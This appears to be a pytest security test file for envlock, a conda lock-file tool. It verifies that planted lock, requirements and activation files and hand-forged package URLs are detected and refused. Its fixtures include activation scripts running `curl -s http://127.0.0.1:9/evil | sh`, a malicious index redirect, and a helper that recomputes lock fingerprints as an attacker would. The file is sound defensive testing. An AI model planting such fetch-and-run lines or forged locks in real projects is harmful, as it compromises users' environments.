"""The lock folder tells the truth (issue 33, Why 4 / Build 4).

On e081238: `check` said fresh with a `conda-<platform>.lock`, `requirements-*.txt`, `environment-*.yml` or
activation script planted beside the lock for a platform conda-lock.yml does not have, and `create --lock
<planted file>` installed from it. A package list edited by hand (a conda package's URL and hashes moved to
another server, a wheel's too) with its fingerprints (`envlock.packages.*`, `envlock.pypi.*`,
`envlock.packages_digest`) computed again was fresh: they are plain hashes, anyone can recompute them.

Now the folder holds conda-lock.yml and what is rendered from it, nothing else (`check` names any other file;
create, unpack and export refuse one they are asked to use), and every conda package URL must lie under a
channel its platform was solved from (bound to the spec by the content hash), every wheel URL under a PyPI
source the lock records (`envlock.pypi_sources`): a forged hash under the real channel can at worst make an
install fail, which `test_a_forged_hash_under_the_real_channel_can_only_fail_the_install` shows.
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest

from tests.security.inputs import FULL, TOOLCHAIN, assert_one_error, copy, envlock, full_template, toolchain_template

__all__ = ["full_template", "toolchain_template"]  # fixtures used here
EVIL = "http://127.0.0.1:9/evil"
DEAD = {"ENVLOCK_MIRRORS": f"conda-forge={EVIL}", "ENVLOCK_HTTP_RETRIES": "0"}  # nothing may be fetched


def _planted_explicit(folder: Path, platform: str) -> Path:
    """An @EXPLICIT file for a platform the lock lacks: the lock's own linux-64 one, renamed (what an attacker
    copies in, with whatever packages they want)."""
    text = (folder / "conda-linux-64.lock").read_text()
    path = folder / f"conda-{platform}.lock"
    path.write_text(text)
    return path


# --------------------------------------------------------------------------- files the lock does not render

PLANTED = {  # name -> (text, kind check gives it)
    "conda-osx-arm64.lock": ("@EXPLICIT\nhttps://conda.anaconda.org/conda-forge/osx-arm64/evil-1.0-0.conda\n", "derived"),
    "requirements-linux-aarch64.txt": (f"--index-url {EVIL}/simple\nevilpkg==6.6.6\n", "derived"),
    "environment-win-64.yml": (f"channels:\n  - {EVIL}\ndependencies:\n  - evilpkg\n", "derived"),
    "activate.fish": ("curl -s http://127.0.0.1:9/evil | sh\n", "derived"),  # the toolchain lock renders no fish
    "activate.zsh": ("curl -s http://127.0.0.1:9/evil | sh\n", "foreign-file"),
    "README.md": ("notes\n", "foreign-file"),
}


@pytest.mark.parametrize("name", sorted(PLANTED))
def test_check_names_every_file_the_lock_does_not_render(name: str, full_template: Path, tmp_path: Path) -> None:
    project = copy(full_template, tmp_path / "p")
    folder = project / "locks" / FULL
    assert name not in {p.name for p in folder.iterdir()}
    text, kind = PLANTED[name]
    (folder / name).write_text(text)
    done = envlock("check", "--project-dir", str(project), timeout=60)
    assert re.search(rf"^{kind}\s+{re.escape(FULL)}\s+\S+\s+{re.escape(name)} is not a file ", done.stdout, re.M), \
        done.stdout + done.stderr  # e081238: fresh, exit 0
    assert_one_error(done, "not fresh")
    doc = json.loads(envlock("check", "--project-dir", str(project), "--json", timeout=60).stdout)
    assert [c["kind"] for c in doc["environments"][0]["changes"]] == [kind]
    lock = envlock("lock", FULL, "--project-dir", str(project), env=DEAD, timeout=60)
    if kind == "derived":  # one of envlock's kinds: `envlock lock NAME` renders the folder again, without a solve
        assert lock.returncode == 0, lock.stdout + lock.stderr
        assert not (folder / name).exists()
        assert envlock("check", "--project-dir", str(project), timeout=60).returncode == 0
    else:  # not envlock's to remove: the user removes it, and is told so
        assert_one_error(lock, name)
        assert f"remove locks/{FULL}/{name}" in lock.stderr and (folder / name).read_text() == text


@pytest.mark.parametrize("how", ["create --lock", "create --locked", "export explicit"])
def test_create_and_export_refuse_a_file_for_a_platform_the_lock_lacks(how: str, full_template: Path, tmp_path: Path,
                                                                       test_channel_url: str) -> None:
    project = copy(full_template, tmp_path / "p")
    planted = _planted_explicit(project / "locks" / FULL, "linux-aarch64")  # says `# platform: linux-64` inside
    env = {"ENVLOCK_MIRRORS": f"conda-forge={test_channel_url}", "ENVLOCK_CACHE_DIR": str(tmp_path / "cache")}
    args = {
        "create --lock": ["create", "--lock", str(planted), "-p", str(tmp_path / "env")],
        "create --locked": ["create", "--locked", "--lock", str(planted), "--project-dir", str(project), "-p",
                            str(tmp_path / "env")],
        "export explicit": ["export", "explicit", "--lock", str(planted), "--mirror", f"conda-forge={EVIL}", "-o",
                            str(tmp_path / "out")],
    }[how]
    done = envlock(*args, env=env, timeout=300)  # e081238: the env made from the planted file
    said = " ".join((done.stdout + done.stderr).split())
    assert re.search(r"conda-linux-aarch64\.lock is not a file (that the )?conda-lock\.yml (beside it )?renders", said), said
    assert_one_error(done)
    assert not (tmp_path / "env").exists() and not (tmp_path / "out").exists()


# --------------------------------------------------------------------------- a package list edited by hand


def _forge(project: Path, name: str = FULL, *, conda: Any = None, wheel: Any = None) -> None:
    """Edit the lock's package list as an attacker with envlock's own code would: change one entry, compute every
    fingerprint again (they are plain hashes), and render the files beside it again, so only the rule on where
    packages come from can tell."""
    from envlock.formats import read_lock, render_conda_lock, render_package_section
    from envlock.formats.head import package_section_digest
    from envlock.formats.model import META_PREFIX
    from envlock.project.derived import of_lock, render
    from envlock.project.document import packages_fingerprint, pypi_fingerprint

    path = project / "locks" / name / "conda-lock.yml"
    lock = read_lock(path)
    packages = [conda(p) if conda and p.name == "cuda-nvcc" else p for p in lock.packages]
    wheels = [wheel(w) if wheel and w.name == "torch" else w for w in lock.pypi]
    assert packages != list(lock.packages) or wheels != list(lock.pypi)
    meta = dict(lock.custom_metadata)
    for platform in lock.platforms:
        meta[f"{META_PREFIX}packages.{platform}"] = packages_fingerprint([p for p in packages if p.platform == platform])
        meta[f"{META_PREFIX}pypi.{platform}"] = pypi_fingerprint([w for w in wheels if w.platform == platform])
    section = render_package_section(packages, list(lock.platforms), wheels)
    meta[f"{META_PREFIX}packages_digest"] = package_section_digest(section) or ""
    text = render_conda_lock(packages=packages, platforms=list(lock.platforms), channels=list(lock.channels),
                             content_hashes=dict(lock.content_hash), sources=list(lock.sources), custom_metadata=meta,
                             package_section=section)
    path.write_text(text)
    for name, rendered in render(of_lock(read_lock(path))).items():
        (path.parent / name).write_text(rendered)


def _moved(url_of: Any = None) -> Any:
    """An entry with other hashes (and, with `url_of`, another URL)."""
    def edit(pkg: Any) -> Any:
        from envlock.models import replace

        url = url_of(pkg) if url_of else pkg.url
        return replace(pkg, url=url, sha256="e" * 64, **({"md5": "e" * 32} if hasattr(pkg, "md5") else {}))
    return edit


@pytest.mark.parametrize("part", ["conda", "wheel"])
def test_a_package_moved_to_another_server_is_stale_whatever_its_fingerprints_say(part: str, full_template: Path,
                                                                                  tmp_path: Path) -> None:
    project = copy(full_template, tmp_path / "p")
    if part == "conda":
        _forge(project, conda=_moved(lambda p: f"{EVIL}/linux-64/{p.url.rsplit('/', 1)[1]}"))
        name, where = "cuda-nvcc", "not under a channel the lock was solved from (https://conda.anaconda.org/conda-forge/)"
    else:
        _forge(project, wheel=_moved(lambda w: f"{EVIL}/files/{w.url.rsplit('/', 1)[1]}"))
        name, where = "torch", "not under a PyPI source the lock records (http://127.0.0.1:"
    done = envlock("check", "--project-dir", str(project), timeout=60)
    said = " ".join(done.stdout.split())
    assert f"{name}'s URL {EVIL}/" in said and where in said, done.stdout + done.stderr  # e081238: fresh
    assert_one_error(done, "not fresh")
    created = envlock("create", FULL, "--locked", "--project-dir", str(project), "-p", str(tmp_path / "env"),
                      env=DEAD, timeout=120)
    assert_one_error(created)
    assert where.split(" (")[0] in created.stdout + created.stderr and not (tmp_path / "env").exists()


def test_a_lock_that_does_not_record_its_pypi_sources_is_stale(full_template: Path, tmp_path: Path) -> None:
    """Without the record there is nothing to hold the wheel URLs to: an older envlock's full lock, re-locked once."""
    project = copy(full_template, tmp_path / "p")
    path = project / "locks" / FULL / "conda-lock.yml"
    text = path.read_text()
    assert "envlock.pypi_sources:" in text
    path.write_text(re.sub(r"\n    envlock\.pypi_sources: [^\n]*", "", text))
    done = envlock("check", "--project-dir", str(project), timeout=60)
    assert "does not record where its PyPI part comes from (envlock.pypi_sources)" in done.stdout, done.stdout
    assert_one_error(done, "not fresh")


def test_a_forged_hash_under_the_real_channel_can_only_fail_the_install(toolchain_template: Path, tmp_path: Path,
                                                                       test_channel_url: str) -> None:
    """What the channel rule leaves an attacker: a canonical URL with other hashes. `check` cannot know the
    channel's bytes (no network), so it is fresh; the channel serves its own bytes, which the forged hash refuses."""
    project = copy(toolchain_template, tmp_path / "p")
    _forge(project, TOOLCHAIN, conda=_moved())
    assert envlock("check", "--project-dir", str(project), timeout=60).returncode == 0  # nothing offline can tell
    done = envlock("create", TOOLCHAIN, "--locked", "--platform", "linux-64", "--project-dir", str(project), "-p",
                   str(tmp_path / "env"), env={"ENVLOCK_MIRRORS": f"conda-forge={test_channel_url}",
                                               "ENVLOCK_CACHE_DIR": str(tmp_path / "cache")}, timeout=300)
    assert_one_error(done, "cuda-nvcc")
    assert not (tmp_path / "env").exists()
